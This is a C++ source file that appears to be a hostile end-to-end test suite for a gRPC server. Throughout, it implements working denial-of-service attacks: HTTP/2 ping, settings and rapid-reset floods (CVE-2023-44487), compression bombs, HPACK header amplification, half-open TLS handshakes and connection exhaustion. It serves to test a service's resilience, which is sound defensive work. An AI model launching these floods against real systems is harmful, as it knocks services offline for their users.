#include <zlib.h>

#include <chrono>
#include <random>
#include <thread>

#include "grpc/health/v1/health.pb.h"
#include "tests/e2e/hostile/attacks.h"
#include "tests/e2e/hostile/held_calls.h"
#include "tests/e2e/hostile/http2_connection.h"
#include "tests/e2e/hostile/requests.h"
#include "tests/support/raw_socket.h"

namespace sap::test::hostile {
namespace {

constexpr char kReflection[] = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo";
constexpr int kFileContainingSymbol = 4;

std::string RandomBytes(size_t size, uint32_t seed) {
  std::mt19937 random(seed);
  std::string bytes(size, '\0');
  for (char& byte : bytes) byte = static_cast<char>(random());
  return bytes;
}

void WatchesWithHugeNames(const Target& target, Siege* siege) {
  const auto channel = OpenChannel(target);
  const grpc::ByteBuffer message = HugeString(1, 200 * kMB);
  for (int i = 0; i < 6; ++i) {
    siege->Hold(std::make_shared<HeldCall>(target, channel, kWatch, message));
  }
}

std::string Deflate(const std::string& bytes) {
  std::string packed(compressBound(bytes.size()), '\0');
  uLongf size = packed.size();
  EXPECT_EQ(compress2(reinterpret_cast<Bytef*>(packed.data()), &size,
                      reinterpret_cast<const Bytef*>(bytes.data()), bytes.size(), 6),
            Z_OK);
  packed.resize(size);
  return packed;
}

// Messages of 60 MB each, which are 60 kB on the wire.
void CompressedChecks(const Target& target, Siege* siege) {
  grpc::health::v1::HealthCheckRequest request;
  request.set_service(std::string(60 * kMB, 'a'));
  const std::string message = Deflate(request.SerializeAsString());
  for (int i = 0; i < 4; ++i) {
    const auto connection = siege->Hold(std::make_shared<Http2Connection>(target));
    const int call = connection->Begin(kCheck, "deflate");
    connection->Send(call, MessagePrefix(message.size(), /*compressed=*/true) + message);
    connection->Receive(100);
  }
}

void ChecksNeverFinished(const Target& target, Siege* siege) {
  const std::string part(50 * kMB, 'a');
  for (int i = 0; i < 4; ++i) {
    const auto connection = siege->Hold(std::make_shared<Http2Connection>(target));
    const int call = connection->Begin(kCheck);
    if (connection->Send(call, MessagePrefix(250 * kMB))) connection->Send(call, part);
  }
}

void ReflectionWithHugeNames(const Target& target, Siege* siege) {
  const auto channel = OpenChannel(target);
  const grpc::ByteBuffer message = HugeString(kFileContainingSymbol, 50 * kMB);
  for (int i = 0; i < 6; ++i) {
    siege->Hold(std::make_shared<HeldCall>(target, channel, kReflection, message));
  }
}

void ManyReflectionStreams(const Target& target, Siege* siege) {
  for (int i = 0; i < 5; ++i) {
    const auto connection = siege->Hold(std::make_shared<Http2Connection>(target));
    for (int call = 0; call < 200 * Scale(); ++call) connection->Begin(kReflection);
  }
}

void UnauthenticatedCalls(const Target& target, Siege* siege) {
  siege
      ->Hold(std::make_shared<Load>(target, kSolve, SolveRequest(SmallProblem()),
                                    LoadOptions{.outstanding = 256}))
      ->Await(5000 * Scale());
}

// Every name is another one.
void CallsOfUnknownMethods(const Target& target, Siege* siege) {
  auto connection = std::make_shared<std::unique_ptr<Http2Connection>>();
  siege->Repeat([target, connection, number = 0]() mutable {
    if (*connection == nullptr || !(*connection)->open()) {
      *connection = std::make_unique<Http2Connection>(target);
    }
    for (int i = 0; i < 20; ++i) {
      (*connection)->Begin("/" + std::string(4000, 'x') + "/" + std::to_string(++number));
    }
    (*connection)->Receive(1);
  });
}

void IdleConnections(const Target& target, Siege* siege) {
  for (int i = 0; i < 1000 * Scale(); ++i) {
    const auto wire = siege->Hold(std::make_shared<Wire>(target));
    wire->Send(Preface(65'535));
  }
}

void ManyWatches(const Target& target, Siege* siege) {
  for (int i = 0; i < 10; ++i) {
    const auto connection = siege->Hold(std::make_shared<Http2Connection>(target));
    for (int call = 0; call < 300 * Scale(); ++call) {
      connection->Send(connection->Begin(kWatch), MessagePrefix(0));
    }
  }
}

// With tokens that nobody has: as many at a time as a proxy lets an address have, which wait for
// their rejection.
void CallsWithWrongTokens(const Target& target, Siege* siege) {
  Target liar = target;
  liar.token = "a-token-that-nobody-has";
  std::vector<std::shared_ptr<Http2Connection>> connections;
  for (int i = 0; i < 40; ++i) {
    connections.push_back(siege->Hold(std::make_shared<Http2Connection>(liar)));
  }
  siege->Repeat([connections] {
    for (const auto& connection : connections) {
      connection->Receive();
      while (connection->open() && connection->calls() < 100) connection->Begin(kSolveSession);
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(250));
  });
  std::this_thread::sleep_for(std::chrono::seconds(1));
}

// 80 of them in each call, which HPACK makes 80 bytes.
void CallsWithManyTokens(const Target& target, Siege* siege) {
  std::string tokens;
  for (int i = 0; i < 80; ++i) tokens += Header("authorization", "Bearer 0123456789abcdef");
  const auto connection = siege->Hold(std::make_shared<Http2Connection>(target));
  siege->Repeat([connection, tokens] {
    connection->Receive(2);
    if (connection->calls() < 100) connection->Begin(kCheck, "identity", tokens);
  });
}

// 20 kB, as a header of 1 kB that enters the table of HPACK and 19 references to it. Above its
// limit gRPC 1.51 drops the connection.
void LongHeaders(const Target& target, Siege* siege) {
  std::string headers = Header("x-long", std::string(1000, 'x'));
  headers.front() = '\x40';
  headers.append(19, '\xbe');
  auto connection = std::make_shared<std::unique_ptr<Http2Connection>>();
  siege->Repeat([target, headers, connection] {
    if (*connection == nullptr || !(*connection)->open()) {
      *connection = std::make_unique<Http2Connection>(target);
    }
    (*connection)->Begin(kCheck, "identity", headers);
    (*connection)->Receive(20);
  });
}

// Sends bursts of frames, whose answers are not read, over and over on new connections.
void Flood(const Target& target, Siege* siege, const std::string& burst) {
  auto wire = std::make_shared<std::unique_ptr<Wire>>();
  siege->Repeat([target, burst, wire] {
    if (*wire == nullptr || !(*wire)->open()) {
      *wire = std::make_unique<Wire>(target);
      (*wire)->Send(Preface(65'535));
    }
    (*wire)->Send(burst);
  });
}

std::string Times(int count, const std::string& frame) {
  std::string burst;
  for (int i = 0; i < count; ++i) burst += frame;
  return burst;
}

void PingFlood(const Target& target, Siege* siege) {
  Flood(target, siege, Times(1000, Frame(kPing, 0, 0, "pingpong")));
}

void SettingsFlood(const Target& target, Siege* siege) {
  Flood(target, siege, Times(1000, Frame(kSettings, 0, 0, std::string("\0\4\0\1\0\0", 6))));
}

// Calls that are begun and given up as fast as they can be [CVE-2023-44487].
void ResetFlood(const Target& target, Siege* siege) {
  siege->Repeat([target] {
    Wire wire(target);
    wire.Send(Preface(65'535));
    std::string burst;
    const std::string headers = CallHeaders(target, kSolve);
    for (int call = 1; call < 4000; call += 2) {
      burst += Frame(kHeaders, /*flags=*/4, call, headers);
      burst += Frame(kReset, 0, call, std::string("\0\0\0\x08", 4));
    }
    wire.Send(burst);
    wire.Receive(100);
  });
}

// The first bytes of a hello of TLS, and no more.
void HalfOpenHandshakes(const Target& target, Siege* siege) {
  for (int i = 0; i < 1000 * Scale(); ++i) {
    const auto wire = siege->Hold(std::make_shared<Wire>(target, /*handshake=*/false));
    wire->Send(std::string_view("\x16\x03\x01\x02\x00\x01\x00", 7));
  }
}

void SilentScrapers(const Target& target, Siege* siege) {
  for (int i = 0; i < 20; ++i) {
    const auto socket = siege->Hold(std::make_shared<RawSocket>(target.metrics_address));
    if (i % 2 == 0) socket->Send("GET /metrics HTTP/1.1\r\n");
  }
}

void GarbageBytes(const Target& target, Siege* siege) {
  siege->Repeat([target, seed = 0U]() mutable {
    Wire wire(target, /*handshake=*/++seed % 4 != 0);
    const std::string garbage = RandomBytes(64 * 1024, seed);
    if (seed % 2 == 0) wire.Send(Preface(65'535));
    wire.Send(seed % 3 == 0 ? Frame(kHeaders, /*flags=*/4, 1, garbage.substr(0, 4000)) : garbage);
    wire.Receive(10);
  });
}

// With the proxy or without it.
const std::vector<Attack> kEverywhere{
    {"WatchesWithHugeNames", WatchesWithHugeNames, 100},
    {"CompressedChecks", CompressedChecks, 100},
    {"ChecksNeverFinished", ChecksNeverFinished, 100},
    {"UnauthenticatedCalls", UnauthenticatedCalls, 100},
    {"IdleConnections", IdleConnections, 150},
    {"ManyWatches", ManyWatches, 150, &Neighbour::SolveByNewList},
    {"PingFlood", PingFlood, 250},
    {"SettingsFlood", SettingsFlood, 100},
    {"HalfOpenHandshakes", HalfOpenHandshakes, 150},
    {"GarbageBytes", GarbageBytes, 100},
    {"LongHeaders", LongHeaders, 100},
    {"CallsWithWrongTokens",
     CallsWithWrongTokens,
     150,
     &Neighbour::SolveSmall,
     {},
     256,
     /*median_s=*/0.5},
};

std::vector<Attack> With(std::vector<Attack> attacks, const std::vector<Attack>& more) {
  attacks.insert(attacks.end(), more.begin(), more.end());
  return attacks;
}

}  // namespace

std::vector<Attack> AttacksByStrangers() {
  return With(kEverywhere, {
                               {"ReflectionWithHugeNames", ReflectionWithHugeNames, 100},
                               {"ManyReflectionStreams", ManyReflectionStreams, 150},
                               {"CallsOfUnknownMethods", CallsOfUnknownMethods, 150},
                               {"CallsWithManyTokens", CallsWithManyTokens, 100},
                               {"SilentScrapers", SilentScrapers, 50, &Neighbour::ScrapeMetrics},
                           });
}

std::vector<Attack> AttacksThroughTheProxy() {
  // gRPC 1.51 bounds neither the number of such calls nor their memory: alone, the server takes
  // gigabytes for them and answers nobody.
  return With(kEverywhere, {{"ResetFlood", ResetFlood, 700}});
}

}  // namespace sap::test::hostile
